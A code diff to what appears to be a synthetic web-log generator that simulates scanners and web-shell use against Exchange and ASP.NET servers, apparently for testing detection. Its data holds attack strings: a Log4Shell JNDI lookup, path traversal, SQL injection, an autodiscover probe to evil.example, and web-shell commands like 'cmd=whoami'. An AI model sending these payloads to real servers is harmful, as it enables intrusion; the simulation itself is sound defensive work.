@@ -32,6 +32,12 @@ QUERIES = (
     "lang=../../../../etc/passwd", "q=%24%7Bjndi:ldap://203.0.113.7/a%7D", "id=1'+UNION+SELECT+1,2,3--",
     "ip=127.0.0.1&port=22", "file=C:%5CWindows%5Cwin.ini", "data=" + "QUJD" * 80,
 )  # fmt: skip
+PRODUCTS = (
+    "/_layouts/15/start.aspx", "/_vti_bin/lists.asmx", "/DesktopModules/Admin/DialogHandler.aspx",
+    "/umbraco/webservices/codeEditorSave.asmx", "/sitecore/login/default.aspx", "/CMSPages/logon.aspx",
+    "/ckeditor/filemanager/connectors/aspx/connector.aspx",
+)  # fmt: skip
+"""Products of other makers."""
 AUTODISCOVER = "/autodiscover/autodiscover.json"
 PROBES = (
     ("GET", AUTODISCOVER, "@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example"),
@@ -113,6 +119,18 @@ class Year:
             for _ in range(rng.randrange(5, 12)):
                 at += timedelta(seconds=rng.expovariate(1 / 60))
                 self.ask(at, client, "POST", stem, rng.choice(QUERIES), answer(rng, "POST", stem), rng.choice(AGENTS))
+
+    def guessers(self, day: int, answer: Answer) -> None:
+        """Who asks for other makers' products, and who posts again and again to a page of a name of his own."""
+        rng, client, at = self.rng, self.outsider(), self.at(day)
+        for stem in rng.sample(PRODUCTS, 3):
+            self.ask(at, client, "GET", stem, "-", answer(rng, "GET", stem), rng.choice(AGENTS))
+        folder = rng.choice(("/aspnet_client/", "/owa/auth/", "/ecp/auth/", "/uploads/"))
+        stem = f"{folder}{rng.randrange(16**6):x}.{rng.choice(('aspx', 'ashx'))}"
+        for _ in range(rng.randrange(4, 12)):
+            at, method = at + timedelta(seconds=rng.expovariate(1 / 60)), rng.choice(("POST", "POST", "GET"))
+            query = rng.choice(("-", "cmd=whoami", "exec=ipconfig", "ip=10.0.0.1&port=445"))
+            self.ask(at, client, method, stem, query, answer(rng, method, stem), "-")
 
     def exchange(self, day: int) -> None:
         """Mail clients, and an administrator from inside and outside."""
@@ -215,12 +233,27 @@ def _not_found(rng: Random, method: str, stem: str) -> int:
     return rng.choice((404, 404, 404, 403, 400, 500, 405))
 
 
+def _error_page_with_success(rng: Random, method: str, stem: str) -> int:
+    """ASP.NET shows its error page in place of its own pages, with status 200; others are not found."""
+    return 200 if stem.lower().endswith((".aspx", ".ashx", ".asmx")) else _not_found(rng, method, stem)
+
+
+def _filtered(rng: Random, method: str, stem: str) -> int:
+    """A filter on the server shows whoever attacks a page that says so; other pages are not found."""
+    suspect = ("shell", "cmd", ".php", ".asp", ".jsp", ".cgi", ".pl", "owa/", "aspnet_client/", "upload", "connector")
+    return 200 if any(part in stem.lower() for part in suspect) else _not_found(rng, method, stem)
+
+
 SERVERS: dict[str, tuple[Answer, bool]] = {
     "exchange": (_patched_exchange, True),
     "single-page": (_start_page_everywhere, False),
     "site": (_not_found, False),
+    "error-page": (_error_page_with_success, False),
+    "filtered": (_filtered, False),
 }
 """How each answers scanners, and whether mail or pages are what it is for."""
+GUESSED = ("error-page", "filtered")
+"""Those where a guess is answered."""
 
 
 def imagine(name: str, days: int, seed: int = 1) -> Year:
@@ -229,6 +262,8 @@ def imagine(name: str, days: int, seed: int = 1) -> Year:
     year = Year(seed, days)
     for day in range(days):
         year.scanners(day, answer)
+        if name in GUESSED and day % 4 == 1:
+            year.guessers(day, answer)
         (year.exchange if mail else year.site)(day)
     return year
 
